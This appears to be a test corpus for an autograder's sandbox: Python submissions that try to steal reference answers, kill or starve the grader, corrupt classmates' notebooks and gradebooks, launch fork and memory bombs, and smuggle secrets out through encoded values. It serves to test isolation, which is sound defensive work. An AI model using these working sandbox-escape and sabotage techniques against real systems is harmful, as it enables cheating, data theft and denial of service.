"""Attacks on the grader itself: stage-1 submissions that try to earn what their code does not, or to
change what their classmates earn, each with what the grader must conclude.

Every attack first switches the child's audit hook off the ways learner code can (clearing the
hook's globals, patching its closure through ``gc`` or ``ctypes``), so that what stops it is the
kernel's isolation, not Python. Attacks that would steal an answer use it only if they got it:
``_pcw_adopt`` turns stolen reference text into a working ``match_prefix``, and without it the TODO
stays unfilled (so a successful theft shows up as points that were not earned). Attacks on the
grader or on classmates run at cell level and are followed by an honest class, so they earn every
point if, and only if, the grader and the class survived them. Markers an attack leaves when it
succeeds are harmless files (never code a later run would import).

Stage 1 only: it grades fastest, and isolation does not depend on the stage.
"""
from __future__ import annotations

import random

from autograder.core import layout
from tests.support.hostile_corpus import ALL, REF_CLASS, S01, Case, inject

MATCH = "s01.match_prefix"
STATS = "s01.cache_stats"
MARK = "pcw_attack_marker"  # every file an attack plants has this in its name
REL_REF, REL_HIDDEN = layout.rel(S01.reference), layout.rel(S01.hidden)  # where the answers live in the repository
NB_NAME = S01.learner().name
COURSE_NB = f"source/{S01.notebook}/{NB_NAME}"  # the instructor notebook in an nbgrader course

PRELUDE = r'''
import gc as _gc, os as _os, sys as _sys, json as _json, time as _time, signal as _signal


def _pcw_try(fn, *args):
    try:
        return fn(*args)
    except BaseException:  # noqa: BLE001
        return None


def _pcw_unhook_globals():
    """Clear the audit hook's module globals (its table of refused events) and widen its closure."""
    for f in _gc.get_objects():
        if type(f).__name__ == "function" and f.__name__ == "hook" and f.__closure__:
            _pcw_try(f.__globals__.get("BLOCKED_EVENTS", {}).clear)
            for cell in f.__closure__:
                value = cell.cell_contents
                if isinstance(value, tuple):
                    cell.cell_contents = ()
                elif isinstance(value, str):
                    cell.cell_contents = "/"


def _pcw_unhook_ctypes():
    """The same through raw memory: point the closure cells at harmless values with ctypes."""
    import ctypes
    keep = _pcw_unhook_ctypes.__dict__.setdefault("keep", [])
    for f in _gc.get_objects():
        if type(f).__name__ == "function" and f.__name__ == "hook" and f.__closure__:
            for cell in f.__closure__:
                value = cell.cell_contents
                new = () if isinstance(value, tuple) else "/" if isinstance(value, str) else None
                if new is not None:
                    keep.append(new)
                    ctypes.c_void_p.from_address(id(cell) + 2 * ctypes.sizeof(ctypes.c_void_p)).value = id(new)


_pcw_try(_pcw_unhook_globals)


def _pcw_read(path, limit=4_000_000):
    with open(path, "rb") as f:
        return f.read(limit).decode("utf-8", "replace")


def _pcw_adopt(text):
    """A working match_prefix from stolen text (a module or a notebook), or None."""
    if not text or "def match_prefix" not in text:
        return None
    try:
        nb = _json.loads(text)
        text = "\n".join("".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                         for c in nb["cells"] if c.get("cell_type") == "code")
    except Exception:  # noqa: BLE001 - not a notebook: module source
        pass
    ns = {"__name__": "pcw_stolen"}
    for chunk in [text] + text.split("\n\n\n"):
        _pcw_try(exec, chunk, ns)
    cls = ns.get("PrefixCacheManager")
    if cls is None:
        return None
    try:
        cls.match_prefix(cls(), [1, 2])
    except NotImplementedError:
        return None
    except Exception:  # noqa: BLE001
        pass
    return cls.match_prefix


def _pcw_walk(roots, suffixes, depth=4, limit=400):
    """Files ending in one of ``suffixes`` below ``roots`` (shallow, skipping the system's own trees)."""
    found = []
    for root in roots:
        for dirpath, dirs, files in _pcw_try(lambda: list(_os.walk(root))) or []:
            if dirpath.count("/") - root.count("/") >= depth:
                dirs[:] = []
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "lib", "dev", "site-packages")]
            found += [_os.path.join(dirpath, f) for f in files if f.endswith(suffixes)]
            if len(found) > limit:
                return found
    return found


def _pcw_pids():
    return [int(p) for p in (_pcw_try(_os.listdir, "/proc") or []) if p.isdigit() and int(p) != _os.getpid()]


def _pcw_ancestors():
    out, pid = [], _os.getpid()
    for _ in range(6):
        stat = _pcw_try(_pcw_read, f"/proc/{pid}/stat")
        if not stat:
            break
        pid = int(stat.rsplit(")", 1)[1].split()[1])
        if pid <= 0:
            break
        out.append(pid)
    return out or [_os.getppid()]
'''

STEAL = """f = globals().get("_pcw_stolen")
if f is None:
    f = globals()["_pcw_stolen"] = _pcw_try(_pcw_steal) or False
if f:
    return f(self, prompt_tokens)
raise NotImplementedError()"""


def _thief(name: str, steal: str) -> Case:
    """A submission whose match_prefix is whatever ``steal()`` (cell level) can find, else unfilled."""
    cell = PRELUDE + "\n\ndef _pcw_steal():\n" + _indent(steal) + "\n\n" + inject("match_prefix", STEAL)
    return Case(name, cell, ALL - {MATCH}, {MATCH: "not implemented"})


def _survivor(name: str, attack: str, earns: set[str] | None = None, reason: dict | None = None) -> Case:
    """Cell-level code that goes after the grader or the classmates, then an honest class."""
    cell = PRELUDE + "\n\ndef _pcw_attack():\n" + _indent(attack) + "\n\n_pcw_try(_pcw_attack)\n\n" + REF_CLASS
    return Case(name, cell, set(ALL) if earns is None else earns, reason or {})


def _smuggler(name: str, body: str, cell_code: str = "") -> Case:
    """cache_stats sends text it should never have back out as its result or its error."""
    secret = ("src = _sys.modules['solutions.s01_prefix_match'].__loader__.sources\n"
              "secret = src['solutions.s01_prefix_match'] + src.get('solutions.hidden.s01', '')\n"
              "secret = secret[secret.index('### BEGIN SOLUTION', secret.index('def match_prefix')) + 18:]\n")
    cell = PRELUDE + "\n" + cell_code + "\n" + inject("cache_stats", secret + body)
    return Case(name, cell, ALL - {STATS}, {})


def _indent(code: str, n: int = 4) -> str:
    return "\n".join(" " * n + line if line.strip() else line for line in code.splitlines())


REFERENCE = f"_pcw_root() + '/{REL_REF}'"
ROOT_FN = """
def _pcw_root():
    import autograder
    return _os.path.dirname(_os.path.dirname(_os.path.realpath(autograder.__file__)))
"""


def thieves(root: str) -> list[Case]:
    """``root``: the grader's repository on the host (what an attacker would guess from the README)."""
    ref = f"{root}/{REL_REF}"
    hidden = f"{root}/{REL_HIDDEN}"
    return [
        _thief("dir_fd_open_of_reference", f"""
import os
top = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
fd = os.open({ref!r}.lstrip("/"), os.O_RDONLY, dir_fd=top)
return _pcw_adopt(os.read(fd, 1_000_000).decode())"""),
        _thief("hook_globals_cleared_then_open", f"_pcw_unhook_globals()\nreturn _pcw_adopt(_pcw_read({ref!r}))"),
        _thief("hook_closure_patched_by_ctypes_then_open", f"_pcw_unhook_ctypes()\nreturn _pcw_adopt(_pcw_read({ref!r}))"),
        _thief("reference_through_staging_root", ROOT_FN + f"return _pcw_adopt(_pcw_read({REFERENCE}))"),
        _thief("answers_quoted_in_tests", f"""
import glob
for path in glob.glob({root!r} + "/tests/*.py") + glob.glob({root!r} + "/tests/**/*.py"):
    text = _pcw_read(path)
    if "def match_prefix" in text:
        return _pcw_adopt(text)
return _pcw_adopt(_pcw_read({root!r} + "/tests/../{REL_REF}"))"""),
        _thief("git_objects_of_the_repository", f"""
import zlib
git = {root!r} + "/.git"
if _os.path.isfile(git):  # a worktree: .git names the real git dir
    git = _pcw_read(git).split("gitdir:", 1)[1].strip()
    git = git.split("/worktrees/")[0]
for path in _pcw_walk([git + "/objects"], ("",), depth=3, limit=100000):
    raw = _pcw_try(lambda p=path: zlib.decompress(open(p, "rb").read()))
    if raw and b"def match_prefix" in raw and b"hit_len" in raw:
        found = _pcw_adopt(raw.split(b"\\0", 1)[1].decode("utf-8", "replace"))
        if found:
            return found"""),
        _thief("git_show_through_a_subprocess", f"""
import subprocess
_pcw_unhook_globals()
out = subprocess.run(["git", "-C", {root!r}, "show", "HEAD:{REL_REF}"], capture_output=True,
                     text=True, timeout=5).stdout
return _pcw_adopt(out)"""),
        _thief("another_checkout_next_door", f"""
parent = _os.path.dirname({root!r})
for top in [parent, _os.path.dirname(parent), "/work", "/home", "/root", "/srv", "/opt"]:
    for path in _pcw_walk([top], ({S01.reference.name!r}, {NB_NAME!r}), depth=4):
        found = _pcw_adopt(_pcw_try(_pcw_read, path))
        if found:
            return found"""),
        _thief("parent_cwd_through_proc", f"""
for pid in _pcw_ancestors() + _pcw_pids():
    for rel in ({REL_REF!r}, {COURSE_NB!r}):
        found = _pcw_adopt(_pcw_try(_pcw_read, f"/proc/{{pid}}/cwd/{{rel}}")) or \\
            _pcw_adopt(_pcw_try(_pcw_read, f"/proc/{{pid}}/root/{{_pcw_try(_os.readlink, f'/proc/{{pid}}/cwd')}}/{{rel}}"))
        if found:
            return found"""),
        _thief("course_source_from_parent_cmdline", f"""
tops = set()
for pid in _pcw_ancestors() + _pcw_pids():
    words = (_pcw_try(_pcw_read, f"/proc/{{pid}}/cmdline") or "").split("\\0")
    words += [_pcw_try(_os.readlink, f"/proc/{{pid}}/cwd") or ""]
    for w in words:
        if w.startswith("/") and not w.startswith(("/usr", "/lib", "/bin", "/etc", "/dev", "/proc")):
            top = w if _os.path.isdir(w) else _os.path.dirname(w)
            tops |= {{top, _os.path.dirname(top)}}
for path in _pcw_walk(sorted(tops), ({NB_NAME!r}, {S01.reference.name!r}), depth=4, limit=50):
    found = _pcw_adopt(_pcw_try(_pcw_read, path))
    if found:
        return found"""),
        _thief("grader_memory_and_environ_through_proc", """
for pid in _pcw_ancestors():
    env = _pcw_try(_pcw_read, f"/proc/{pid}/environ") or ""
    mem = _pcw_try(lambda: open(f"/proc/{pid}/mem", "rb"))
    maps = _pcw_try(_pcw_read, f"/proc/{pid}/maps") or ""
    if mem:
        for line in maps.splitlines()[:200]:
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            if "rw" in line.split()[1] and hi - lo < 64 << 20:
                chunk = _pcw_try(lambda: (mem.seek(lo), mem.read(hi - lo))[1]) or b""
                i = chunk.find(b"def match_prefix(self")
                if i >= 0:
                    found = _pcw_adopt(chunk[max(0, i - 20000): i + 20000].decode("utf-8", "replace"))
                    if found:
                        return found"""),
        _thief("sibling_scratch_dirs", """
_time.sleep(1.0)  # let the siblings of this notebook (and of others) write theirs
here = _os.getcwd()
for top in {_os.path.dirname(here), _os.path.dirname(_os.path.dirname(here)), "/tmp"}:
    for path in _pcw_walk([top], ("",), depth=3):
        if not path.startswith(here):
            found = _pcw_adopt(_pcw_try(_pcw_read, path))
            if found:
                return found"""),
        _thief("symlink_from_scratch_to_reference", f"""
_os.symlink({ref!r}, "stolen.py")
return _pcw_adopt(_pcw_read("stolen.py"))"""),
        _thief("hardlink_from_scratch_to_reference", f"""
_os.link({ref!r}, "stolen.py")
return _pcw_adopt(_pcw_read("stolen.py"))"""),
        _thief("import_the_reference_from_the_repository", f"""
import importlib
_sys.meta_path[:] = [f for f in _sys.meta_path if type(f).__name__ != "SourceModules"]
for name in [m for m in _sys.modules if m == "solutions" or m.startswith("solutions.")]:
    del _sys.modules[name]
_sys.path.insert(0, {root!r})
mod = importlib.import_module("solutions.s01_prefix_match")
return _pcw_adopt(_pcw_read(mod.__file__))"""),
        _thief("own_loader_holds_no_answer", """
src = _sys.modules["solutions.s01_prefix_match"].__loader__.sources
return _pcw_adopt(src["solutions.s01_prefix_match"])"""),
        _thief("hidden_checks_from_disk", f"""
text = _pcw_read({hidden!r})
return _pcw_adopt(_pcw_read({ref!r})) if "STAGE.check" in text else None"""),
        _thief("shared_memory_collusion_reader", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shmid = libc.shmget(0x50C5, 0, 0)
if shmid < 0:
    return None
addr = libc.shmat(shmid, None, 0)
return _pcw_adopt(ctypes.string_at(addr, 200_000).split(b"\\0", 1)[0].decode("utf-8", "replace"))"""),
        _thief("dev_shm_and_tmp_collusion_reader", """
_time.sleep(1.0)
for path in ["/dev/shm/pcw_attack_marker_reference.py", "/tmp/pcw_attack_marker_reference.py"]:
    found = _pcw_adopt(_pcw_try(_pcw_read, path))
    if found:
        return found"""),
    ]


# The colluding classmate: wherever it runs a TODO other than match_prefix, its child holds the
# reference's match_prefix; it leaves that source wherever a sibling might look.
COLLUDER = """
import ctypes
src = _sys.modules["solutions.s01_prefix_match"].__loader__.sources["solutions.s01_prefix_match"]
if "hit_len" in src:
    data = src.encode() + b"\\0"
    _pcw_try(lambda: open("pcw_attack_marker_reference.py", "wb").write(data))  # own scratch dir
    for path in ["/dev/shm/pcw_attack_marker_reference.py", "/tmp/pcw_attack_marker_reference.py"]:
        _pcw_try(lambda p=path: open(p, "wb").write(data))
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    shmid = libc.shmget(0x50C5, 1 << 20, 0o1000 | 0o666)
    if shmid >= 0:
        addr = libc.shmat(shmid, None, 0)
        ctypes.memmove(addr, data, len(data))
    _time.sleep(1.5)  # stay alive while the siblings look
"""


def survivors(root: str) -> list[Case]:
    out = [
        _survivor("kill_the_grader_and_its_parents", """
for pid in _pcw_ancestors():
    _pcw_try(_os.kill, pid, _signal.SIGKILL)
    _pcw_try(_os.killpg, _pcw_try(_os.getpgid, pid) or pid, _signal.SIGKILL)"""),
        _survivor("pidfd_send_signal_to_the_grader", """
for pid in _pcw_ancestors() + _pcw_pids():
    fd = _pcw_try(_os.pidfd_open, pid)
    if fd is not None:
        _pcw_try(_signal.pidfd_send_signal, fd, _signal.SIGKILL)"""),
        _survivor("prlimit_starves_the_grader", """
import resource
for pid in _pcw_ancestors() + _pcw_pids():
    _pcw_try(resource.prlimit, pid, resource.RLIMIT_NOFILE, (4, 4))
    _pcw_try(resource.prlimit, pid, resource.RLIMIT_NPROC, (1, 1))"""),
        _survivor("ptrace_and_priority_on_the_grader", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in _pcw_ancestors():
    libc.ptrace(0x4206, pid, None, None)  # PTRACE_SEIZE
    _pcw_try(_os.setpriority, _os.PRIO_PROCESS, pid, 19)
    _pcw_try(_os.sched_setaffinity, pid, {0})"""),
        _survivor("write_into_classmates_result_pipes", """
forged = (_json.dumps({"phase": "done"}) + "\\n").encode()
for pid in _pcw_pids():
    for fd in _pcw_try(_os.listdir, f"/proc/{pid}/fd") or []:
        target = _pcw_try(_os.readlink, f"/proc/{pid}/fd/{fd}") or ""
        if target.startswith("pipe:"):
            w = _pcw_try(_os.open, f"/proc/{pid}/fd/{fd}", _os.O_WRONLY | _os.O_NONBLOCK)
            if w is not None:
                _pcw_try(_os.write, w, forged)"""),
        _survivor("truncate_classmates_notebooks", f"""
tops = {{"/tmp", "/work", "/home", "/root", {root!r}}}
for pid in _pcw_ancestors() + _pcw_pids():
    tops |= {{_os.path.dirname(w) for w in (_pcw_try(_pcw_read, f"/proc/{{pid}}/cmdline") or "").split("\\0")
              if w.startswith(("/tmp", "/work", "/home", "/root"))}}
for path in _pcw_walk(sorted(tops), (".ipynb",), depth=3, limit=100):
    _pcw_try(lambda p=path: open(p, "w").close())"""),
        _survivor("write_the_nbgrader_gradebook", """
tops = ["/tmp", "/work", "/home", "/root"]
for pid in _pcw_ancestors() + _pcw_pids():
    tops.append(_pcw_try(_os.readlink, f"/proc/{pid}/cwd") or "/")
for path in _pcw_walk(tops, ("gradebook.db",), depth=3, limit=100):
    _pcw_try(lambda p=path: open(p, "r+b").write(b"pcw_attack_marker"))"""),
        _survivor("detached_process_rewrites_the_reports", """
if _os.fork() == 0:
    _pcw_try(_os.setsid)
    if _os.fork() == 0:
        _time.sleep(3)
        tops = ["/tmp", "/work", "/home", "/root"]
        for path in _pcw_walk(tops, (".csv", ".json", "gradebook.db"), depth=4, limit=100):
            _pcw_try(lambda p=path: open(p, "a").write("pcw_attack_marker"))
        _os._exit(0)
    _os._exit(0)"""),
        _survivor("plant_modules_for_the_next_run", f"""
import site, sysconfig
here = _os.path.dirname(_os.path.dirname(_os.path.realpath(__import__("autograder").__file__)))
targets = [{root!r} + "/autograder/pcw_attack_marker.py", {root!r} + "/pcw_attack_marker.py",
           {root!r} + "/autograder/__pycache__/pcw_attack_marker.cpython-311.pyc",
           here + "/autograder/pcw_attack_marker.py", here + "/pcw_attack_marker.py",
           sysconfig.get_paths()["purelib"] + "/pcw_attack_marker.txt"]
targets += [p + "/pcw_attack_marker.txt" for p in _pcw_try(site.getsitepackages) or []]
for path in targets:
    _pcw_try(lambda p=path: open(p, "w").write("pcw_attack_marker = True"))"""),
        _survivor("fork_bomb_at_cell_level", """
pids = []
for _ in range(2000):
    pid = _pcw_try(_os.fork)
    if pid is None:
        break
    if pid == 0:
        _time.sleep(30)
        _os._exit(0)
    pids.append(pid)"""),
        _survivor("thread_bomb_at_cell_level", """
import threading
for _ in range(3000):
    _pcw_try(lambda: threading.Thread(target=_time.sleep, args=(30,), daemon=True).start())"""),
        _survivor("memory_grab_at_cell_level", """
hog = []
for _ in range(64):
    hog.append(bytearray(256 << 20))"""),
        _survivor("no_network_no_host_sockets", """
import socket
for target in [("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888)]:
    _pcw_try(lambda t=target: socket.create_connection(t, timeout=1))
for path in ["/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket", "\\0pcw"]:
    s = _pcw_try(socket.socket, socket.AF_UNIX, socket.SOCK_STREAM)
    if s is not None:
        _pcw_try(s.connect, path)"""),
        _survivor("unremovable_scratch_dir", """
_os.makedirs("a/b/c", exist_ok=True)
open("a/b/c/f", "w").write("x")
_os.chmod("a/b/c", 0)
_os.chmod("a/b", 0)
_os.chmod("a", 0)
_pcw_try(_os.mkfifo, "fifo")"""),
        _survivor("output_flood_and_warnings", """
import warnings
_sys.stdout.write("x" * (50 << 20))
_sys.stdout.flush()
_os.write(2, b"e" * (8 << 20))
for _ in range(1000):
    warnings.warn("noisy")""", reason={}),
        _survivor("leftover_processes_hold_the_pipes", """
for _ in range(3):
    if _os.fork() == 0:
        _pcw_try(_os.setsid)
        _pcw_try(_os.setpgid, 0, 0)
        _time.sleep(60)
        _os._exit(0)"""),
        _survivor("colluding_classmate_leaves_its_reference", COLLUDER),
    ]
    # cell-level hangs and sabotage of one's own channel: every TODO fails, the same way, once
    out.append(Case("cpu_hang_at_cell_level", PRELUDE + "\nwhile True:\n    pass\n" + REF_CLASS, set(),
                    {t: "during your TODO cell 1" for t in ALL}))
    out.append(Case("sleep_forever_at_cell_level", PRELUDE + "\n_time.sleep(10 ** 6)\n" + REF_CLASS, set(),
                    {t: "during your TODO cell 1" for t in ALL}))
    out.append(Case("forge_done_on_own_channel_at_cell_level", PRELUDE + """
for fd in range(3, 64):
    _pcw_try(_os.write, fd, (_json.dumps({"phase": "done"}) + "\\n").encode())
""" + REF_CLASS, set(), {t: "tamper" for t in ALL}))
    out.append(Case("flood_own_result_channel", PRELUDE + "\n" + inject("split_prompt", """
for fd in range(3, 64):
    _pcw_try(_os.write, fd, b"{" * (1 << 20))
raise NotImplementedError()"""), ALL - {"s01.split_prompt"}, {"s01.split_prompt": ""}))
    out.append(Case("forge_every_outcome_then_exit", PRELUDE + "\n" + inject("match_prefix", """
import autograder.core.spec as spec
keys = [c.key for c in spec.load_stage("s01").checks if c.todo == "s01.match_prefix"]
for fd in range(3, 64):
    lines = []
    for k in keys:
        lines += [{"phase": "check", "key": k}, {"key": k, "outcome": {"kind": "ok", "value": 0}}]
    data = "".join(_json.dumps(e) + "\\n" for e in lines + [{"phase": "done"}]).encode()
    _pcw_try(_os.write, fd, data)
_os._exit(0)"""), ALL - {MATCH}, {MATCH: ""}))
    out.append(Case("forge_unreadable_outcomes_then_exit", PRELUDE + "\n" + inject("match_prefix", """
import autograder.core.spec as spec
keys = [c.key for c in spec.load_stage("s01").checks if c.todo == "s01.match_prefix"]
lines = [{"key": keys[0], "outcome": {"kind": "ok"}}]
for k in keys[1:]:
    lines += [{"phase": "check", "key": k}, {"key": k, "outcome": {"kind": "ok", "value": {"__float__": "x"}}}]
data = "".join(_json.dumps(e) + "\\n" for e in lines + [{"phase": "done"}]).encode()
for fd in range(3, 64):
    _pcw_try(_os.write, fd, data)
_os._exit(0)"""), ALL - {MATCH}, {MATCH: "could not be read"}))
    out.append(Case("report_a_check_twice", PRELUDE + "\n" + inject("match_prefix", """
import autograder.core.spec as spec
key = [c.key for c in spec.load_stage("s01").checks if c.todo == "s01.match_prefix"][0]
for fd in range(3, 64):
    _pcw_try(_os.write, fd, (_json.dumps({"key": key, "outcome": {"kind": "ok", "value": 0}}) + "\\n").encode())
raise NotImplementedError()"""), ALL - {MATCH}, {MATCH: "tamper"}))
    out.append(Case("patch_the_json_encoder", PRELUDE + """
import json.encoder
_orig = json.encoder.JSONEncoder.encode
def _lie(self, o):
    if isinstance(o, dict) and isinstance(o.get("outcome"), dict) and o["outcome"].get("kind") == "todo":
        o = {"key": o["key"], "outcome": {"kind": "ok", "value": 0}}
    return _orig(self, o)
json.encoder.JSONEncoder.encode = _lie
json.dumps.__globals__["_default_encoder"] = json.JSONEncoder()
""" + inject("match_prefix", "raise NotImplementedError()"), ALL - {MATCH}, {MATCH: ""}))
    out.append(Case("rewrite_the_checks_through_gc", PRELUDE + "\n" + inject("match_prefix", """
for obj in _gc.get_objects():
    if type(obj).__name__ == "Check" and getattr(obj, "todo", "") == "s01.match_prefix":
        object.__setattr__(obj, "probe", lambda impl: 0)
raise NotImplementedError()"""), ALL - {MATCH}, {MATCH: ""}))
    return out


def smugglers() -> list[Case]:
    return [
        _smuggler("smuggle_plain_in_a_value", "return {'hit_tokens': secret[:300], 'uncached_tokens': 0, 'reuse_ratio': 0.0}"),
        _smuggler("smuggle_base64_in_a_value", "import base64\nreturn {'hit_tokens': base64.b64encode(secret[:200].encode()).decode()}"),
        _smuggler("smuggle_hex_in_a_value", "return {'hit_tokens': secret[:150].encode().hex()}"),
        _smuggler("smuggle_in_an_exception_message", "raise ValueError(secret[:400])"),
        _smuggler("smuggle_in_an_exception_type_name",
                  "import re\nname = ''.join(re.findall(r'[A-Za-z0-9_]', secret))[:300]\nraise type(name, (Exception,), {})()"),
        _smuggler("smuggle_split_across_checks", """
n = globals().setdefault("_pcw_n", [0])
n[0] += 1
piece = secret[(n[0] - 1) * 8: n[0] * 8]
return {'hit_tokens': piece, 'uncached_tokens': n[0], 'reuse_ratio': 0.0}"""),
        _smuggler("smuggle_as_character_codes", "return [ord(ch) for ch in secret[:120]]"),
        _smuggler("smuggle_rot13_reversed", "import codecs\nreturn {'hit_tokens': codecs.encode(secret[:200], 'rot13')[::-1]}"),
        _smuggler("smuggle_zlib_then_base64",
                  "import base64, zlib\nreturn {'hit_tokens': base64.b64encode(zlib.compress(secret[:400].encode())).decode()}"),
        _smuggler("smuggle_in_a_forged_missing_event", """
for fd in range(3, 64):
    _pcw_try(_os.write, fd, (_json.dumps({"missing": secret[:300]}) + "\\n").encode())
raise NotImplementedError()"""),
        _smuggler("smuggle_in_a_cell_error", "raise NotImplementedError()", cell_code="""
_src = _sys.modules['solutions.s01_prefix_match'].__loader__.sources
_secret = _src['solutions.s01_prefix_match']
try:
    raise RuntimeError(_secret[_secret.index('### BEGIN SOLUTION', _secret.index('def match_prefix')) + 18:][:400])
except RuntimeError as _e:
    _pcw_err = _e
"""),
    ]


# The attacker's own cipher: a substitution no guard can know (a fixed shuffle of letters and digits),
# and its inverse; the "two rounds" attack reads the reference out with it, then would submit it.
CIPHER_FROM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_"
CIPHER_TO = "".join(random.Random(23).sample(CIPHER_FROM, len(CIPHER_FROM)))
CIPHER = f"""
_pcw_table = str.maketrans({CIPHER_FROM!r}, {CIPHER_TO!r})
"""


def decipher(text: str) -> str:
    """What the attacker would do with its report: undo the cipher."""
    return text.translate(str.maketrans(CIPHER_TO, CIPHER_FROM))


def exfiltrators() -> list[Case]:
    """Attacks on what a report can carry, through what the leak guard never reads as text: numbers,
    dict keys, shapes, fields of forged events, exit statuses, an encoding of the attacker's own, and
    pieces spread over every TODO. Each fails its TODO; what it gets out is bounded by the report's
    budget (tests/engine/test_report_bounds.py measures it on a real run)."""
    spread_cls = REF_CLASS
    for k, method in enumerate(["_normalize", "add_prefix", "match_prefix", "split_prompt", "cache_stats"]):
        spread_cls = inject(method, "secret = _pcw_secret()\n"
                                    f"return secret.translate(_pcw_table)[{k * 10}:{k * 10 + 10}]", cls=spread_cls)
    secret_fn = """
def _pcw_secret():
    src = _sys.modules['solutions.s01_prefix_match'].__loader__.sources
    secret = src['solutions.s01_prefix_match']
    for name in ('def match_prefix', 'def add_prefix', 'def _normalize'):
        if name in secret and '### BEGIN SOLUTION' in secret[secret.index(name):]:
            i = secret.index('### BEGIN SOLUTION', secret.index(name)) + 18
            return secret[i:]
    return secret
"""
    return [
        _smuggler("exfiltrate_as_one_huge_number", "return int.from_bytes(secret[:1500].encode(), 'big')"),
        _smuggler("exfiltrate_in_dict_keys", "return {secret[i:i + 11]: i for i in range(0, 660, 11)}"),
        _smuggler("exfiltrate_in_the_shape_of_lists", "return [[0] * ord(ch) for ch in secret[:60]]"),
        _smuggler("exfiltrate_in_tensor_shape_fields", """
return {'shape': [ord(ch) for ch in secret[:200]], 'dtype': secret.translate(_pcw_table)[:100],
        'device': secret.translate(_pcw_table)[100:200], 'values': [0.0]}""", cell_code=CIPHER),
        _smuggler("exfiltrate_in_forged_event_fields", """
codes = int.from_bytes(secret[:40].encode(), 'big')
events = [{"phase": "cell", "index": codes},
          {"cell_errors": [{"cell": codes, "kind": secret[:30], "type": secret.translate(_pcw_table)[:60],
                            "message": secret.translate(_pcw_table)[60:260]}]},
          {"course_versions": [w for w in secret.split() if w.isidentifier()][:60]}]
for fd in range(3, 64):
    _pcw_try(_os.write, fd, "".join(_json.dumps(e) + "\\n" for e in events).encode())
_os._exit(0)""", cell_code=CIPHER),
        _smuggler("exfiltrate_in_the_exit_status", "_os._exit(ord(secret[0]) % 256)"),
        _smuggler("exfiltrate_in_an_unknown_encoding", """
coded = secret.translate(_pcw_table)
return {'hit_tokens': coded[:300], 'uncached_tokens': coded[300:600], 'reuse_ratio': coded[600:900]}""",
                  cell_code=CIPHER),
        _smuggler("exfiltrate_unknown_encoding_in_an_exception", "raise ValueError(secret.translate(_pcw_table)[:400])",
                  cell_code=CIPHER),
        Case("exfiltrate_small_pieces_across_every_todo", PRELUDE + CIPHER + secret_fn + "\n" + spread_cls, set(), {}),
    ]


def cases(root: str) -> list[Case]:
    out = thieves(root) + survivors(root) + smugglers() + exfiltrators() + probe_text_smugglers() + lock_pair()
    # the cell-error smuggler must raise at cell level: re-raise it after the class is defined
    for c in out:
        if c.name == "smuggle_in_a_cell_error":
            c.cell += "\n\nraise _pcw_err\n"
    return out


LEAKERS = {c.name for c in smugglers()}


# -- a hidden check's source text, out through an encoding no guard knows -----------------------------
# Each attack looks, at cell level, for the source text of the hidden check ``generator_input`` in
# every place the child could hold it (a loader's sources, the module's file, the line cache,
# ``inspect``, every string the garbage collector reaches, the process's own memory), and, where it
# finds it, makes ``_normalize`` raise with the probe's line encoded in its message; where it finds
# nothing, ``_normalize`` is the reference's and the TODO earns its points. The child holds that
# check's code, compiled by the grader, and no text of it, so every one finds nothing.
PROBE_TEXT = "._normalize(t for t in (4, 5, 6))"  # the probe's own words (solutions/hidden/s01.py)
PROBE_LOOT = r'''
def _pcw_probe_text():
    """The text of the hidden check, one line (``return ...``), or "" where the child holds none."""
    head = "def " + "generator" + "_input("  # built here: this cell's own text holds no copy of it

    def after(text):  # a hidden check's shape: ``def name(impl):``, then its body's first line
        import re
        found = re.search(re.escape(head) + r"impl\):[ \t]*\n[ \t]+(return [^\n]+)", text)
        return " ".join(found.group(1).split()) if found else ""

    mod = _sys.modules.get("solutions.hidden.s01")
    if mod is None or not hasattr(mod, head[4:-1]):
        return ""  # not the child that runs this check (each child holds its own TODO's checks only)
    import inspect, linecache
    routes = [lambda: inspect.getsource(mod), lambda: _pcw_read(mod.__file__)]
    for finder in _sys.meta_path:  # a loader that keeps its modules' sources
        routes.append(lambda f=finder: "\n".join(v for v in getattr(f, "sources", {}).values() if isinstance(v, str)))
    for fn in [v for v in vars(mod).values() if callable(v) and hasattr(v, "__code__")]:
        routes.append(lambda fn=fn: "".join(linecache.getlines(fn.__code__.co_filename, vars(mod))))
        routes.append(lambda fn=fn: inspect.getsource(fn))

    def strings():  # every string the collector's objects reach, through dicts it does not track too
        out = []
        for obj in _gc.get_objects():
            for ref in _gc.get_referents(obj):
                for v in ([ref] if isinstance(ref, str) else ref.values() if type(ref) is dict else ()):
                    if isinstance(v, str) and len(v) > 40 and "generator" in v:
                        out.append(v)
        return "\n".join(out)

    def memory():  # the process's own memory, freed buffers included (the stdin text, say)
        import ctypes
        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: /proc/self/mem is then this user's to read
        found = []
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
            for entry in maps.read().splitlines():
                span, perms = entry.split()[:2]
                lo, hi = (int(x, 16) for x in span.split("-"))
                if not perms.startswith("rw") or hi - lo > 1 << 28 or entry.endswith(("[vvar]", "[vsyscall]")):
                    continue
                try:
                    mem.seek(lo)
                    data = mem.read(hi - lo)
                except OSError:
                    continue
                k = data.find(head.encode())
                while k >= 0:
                    found.append(data[k:k + 300].decode("utf-8", "replace"))
                    k = data.find(head.encode(), k + 1)
        return "\n".join(found)

    for route in [*routes, strings, memory]:
        text = _pcw_try(route)
        if text and after(text):
            return after(text)
    return ""


_pcw_loot = _pcw_probe_text()
_pcw_loot = _pcw_loot[_pcw_loot.find(")._") + 1:] if ")._" in _pcw_loot else _pcw_loot  # the call: what fits a message
'''
# (name, how the cell encodes the loot, how the attacker decodes its report's piece)
PROBE_ENCODINGS = {
    "atbash": "_pcw_loot.translate(str.maketrans(_pcw_AZ, _pcw_AZ[::-1]))",
    "xor_then_base64": "__import__('base64').b64encode(bytes(b ^ 0x5A for b in _pcw_loot.encode())).decode()",
